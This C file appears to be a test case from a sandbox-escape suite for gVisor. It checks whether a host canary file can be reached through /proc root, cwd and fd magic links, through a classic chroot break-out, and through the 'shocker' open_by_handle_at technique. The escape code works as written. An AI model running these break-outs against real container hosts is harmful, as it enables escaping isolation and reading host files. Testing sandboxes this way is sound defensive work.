/* Case proc_root: reaching a host path through the magic links of /proc. The canary is a host file
 * outside the sandbox's root; every path below would reach it on a host whose /proc were the
 * host's: the root and cwd links of the application, of pid 1, and of the sentry and the gofer by
 * their host pids; the fd links of the sentry, the gofer and the inherited stdio; the classic
 * chroot break-out; and open_by_handle_at with a handle for the host's root ("shocker").
 * Usage: proc_root canary=HOSTPATH pids=FILE */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "escape.h"

static void try_read(const char* path) {
  char buf[200], what[600];
  long r = read_path(path, buf, sizeof(buf), O_RDONLY);
  snprintf(what, sizeof(what), "open+read %s", path);
  tried(what, r < 0 ? -1 : r, r < 0 ? (int)-r : 0);
  if (r > 0 && strstr(buf, CANARY_PREFIX)) escaped("read the host canary through %s", path);
}

/* Writes through PATH opened for writing, if it opens: a write reaching the host shows there. */
static void try_write(const char* path) {
  char what[600];
  int fd = open(path, O_WRONLY | O_APPEND);
  snprintf(what, sizeof(what), "open(O_WRONLY) %s", path);
  tried(what, fd, errno);
  if (fd >= 0) {
    long r = write(fd, "moat-escape-write\n", 18);
    snprintf(what, sizeof(what), "write through %s", path);
    tried(what, r, errno);
    close(fd);
  }
}

/* Every fd link of /proc/PID/fd (the sentry's and the gofer's on a host /proc). */
static void try_fd_dir(long pid) {
  char dir[64];
  snprintf(dir, sizeof(dir), "/proc/%ld/fd", pid);
  DIR* d = opendir(dir);
  tried(dir, d ? 0 : -1, errno);
  if (!d) return;
  struct dirent* e;
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char path[600], link[300];
    snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
    long n = readlink(path, link, sizeof(link) - 1);
    if (n > 0) {
      link[n] = 0;
      printf("  %s -> %s\n", path, link);
    }
    try_read(path);
  }
  closedir(d);
}

static void chroot_breakout(const char* canary) {
  /* The classic one: chroot into a subdirectory while keeping a cwd outside it, then climb. */
  mkdir("/tmp/jail", 0755);
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  long r = chroot("/tmp/jail");
  tried("chroot(/tmp/jail)", r, errno);
  r = fchdir(outside);
  tried("fchdir(old root)", r, errno);
  for (int i = 0; i < 64; i++) (void)chdir("..");
  r = chroot(".");
  tried("chroot(.) after 64 x chdir(..)", r, errno);
  try_read(canary);
  char cwd[512];
  if (getcwd(cwd, sizeof(cwd))) printf("  cwd after the climb: %s\n", cwd);
  struct stat st, root;
  if (stat("/", &st) == 0 && stat("/bin", &root) == 0)
    printf("  / is dev %lu ino %lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
  close(outside);
}

static void shocker(const char* canary) {
  /* open_by_handle_at with a handle for inode 2 (the root of ext4 and most file systems), as the
   * 2014 Docker break-out did; the mount fd is any fd of the sandbox. */
  struct {
    struct file_handle fh;
    unsigned char bytes[8];
  } h;
  memset(&h, 0, sizeof(h));
  h.fh.handle_bytes = 8;
  h.fh.handle_type = 1; /* FILEID_INO32_GEN */
  unsigned int ino = 2;
  memcpy(h.fh.f_handle, &ino, sizeof(ino));
  int mnt = open("/", O_RDONLY | O_DIRECTORY);
  long fd = syscall(SYS_open_by_handle_at, mnt, &h.fh, O_RDONLY | O_DIRECTORY);
  tried("open_by_handle_at(inode 2)", fd, errno);
  if (fd >= 0) {
    char path[600];
    snprintf(path, sizeof(path), "%s", canary + 1);
    int c = openat((int)fd, path, O_RDONLY);
    tried("openat(handle fd, canary)", c, errno);
    char buf[200];
    long n = c >= 0 ? read(c, buf, sizeof(buf) - 1) : -1;
    if (n > 0) {
      buf[n] = 0;
      if (strstr(buf, CANARY_PREFIX)) escaped("read the host canary through open_by_handle_at");
    }
  }
  /* name_to_handle_at of the sandbox's own root says what the sandbox gives out. */
  struct {
    struct file_handle fh;
    unsigned char bytes[128];
  } mine;
  mine.fh.handle_bytes = 128;
  int mount_id;
  long r = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &mine.fh, &mount_id, 0);
  tried("name_to_handle_at(/)", r, errno);
  close(mnt);
}

int main(int argc, char** argv) {
  escape_init(argc, argv);
  const char* canary = arg("canary");
  if (!canary || canary[0] != '/') {
    broken("usage: proc_root canary=/HOST/PATH pids=FILE");
    return finish("proc_root");
  }
  wait_pids();
  char path[800];
  /* The canary's own path: in the sandbox it names nothing. */
  try_read(canary);
  const char* roots[] = {"/proc/self/root", "/proc/1/root", "/proc/thread-self/root",
                         "/proc/self/cwd", "/proc/1/cwd"};
  for (size_t i = 0; i < sizeof(roots) / sizeof(roots[0]); i++) {
    snprintf(path, sizeof(path), "%s%s", roots[i], canary);
    try_read(path);
    /* Up from the root link first: ".." of a magic link's target stays in the sandbox. */
    snprintf(path, sizeof(path), "%s/../../../..%s", roots[i], canary);
    try_read(path);
  }
  long pids[] = {g_sentry, g_gofer};
  for (int i = 0; i < 2; i++) {
    if (pids[i] <= 0) continue;
    const char* links[] = {"root", "cwd"};
    for (int j = 0; j < 2; j++) {
      snprintf(path, sizeof(path), "/proc/%ld/%s%s", pids[i], links[j], canary);
      try_read(path);
    }
    /* The driver starts runsc in the canary's directory: the sentry's cwd holds it. */
    const char* base = strrchr(canary, '/') + 1;
    snprintf(path, sizeof(path), "/proc/%ld/cwd/%s", pids[i], base);
    try_read(path);
    try_fd_dir(pids[i]);
  }
  /* The stdio the sandbox inherited are host fds: reopening one through /proc must give the
   * file it is, not a host path looked up again, and never more access than the fd has. The
   * driver makes stdin the host file "stdin" beside the canary, read-only. */
  for (int fd = 0; fd < 3; fd++) {
    char link[300];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    long n = readlink(path, link, sizeof(link) - 1);
    if (n > 0) {
      link[n] = 0;
      printf("  %s -> %s\n", path, link);
    }
  }
  try_read("/proc/self/fd/0");
  try_write("/proc/self/fd/0");
  snprintf(path, sizeof(path), "/proc/self/fd/0/..%s", canary);
  try_read(path);
  /* The canary's directory, relative to the reopened stdin's parent on the host. */
  snprintf(path, sizeof(path), "/proc/self/fd/0/../%s", strrchr(canary, '/') + 1);
  try_read(path);
  chroot_breakout(canary);
  shocker(canary);
  return finish("proc_root");
}
